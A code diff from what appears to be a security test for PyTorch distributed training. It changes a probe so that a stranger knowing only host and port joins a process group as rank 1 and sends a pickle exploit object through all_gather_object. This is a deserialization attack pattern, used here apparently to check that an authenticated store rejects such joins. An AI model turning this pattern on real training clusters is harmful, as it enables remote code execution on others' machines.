@@ -120,18 +120,18 @@ def attack(port: int, exploit: Path) -> None:
     for word in words:
         with suppress(OSError), socket.create_connection((HOST, port), 3.0) as stranger:
             stranger.sendall(word)
-            stranger.settimeout(0.05)
+            stranger.settimeout(0.02)
             with suppress(TimeoutError):
                 assert len(stranger.recv(1 << 16)) in (0, 64)  # 64: a nonce and a proof
 
 
-def joins_as_a_rank(port: int) -> bool:
-    """Ask a port as a rank of torch does that knew host and port, and nothing else; return whether it answered."""
+def joins_as_a_rank(port: int, exploit: Path) -> bool:
+    """Join as rank 1 does that knows host and port, and nothing else, and send a pickle; return whether that works."""
     try:
         store = dist.TCPStore(HOST, port, 2, False, timedelta(seconds=0.5), wait_for_workers=False)
-        store.set("default_pg/0//0//cpu//0/rank_1", "value")
-        store.add("number", 1)
-        return store.num_keys() > 0
+        dist.init_process_group("gloo", store=store, rank=1, world_size=2, timeout=timedelta(seconds=10))
+        dist.all_gather_object([None, None], Exploit(exploit))
+        return True
     except (RuntimeError, ValueError):  # dist.DistError is one
         return False
 
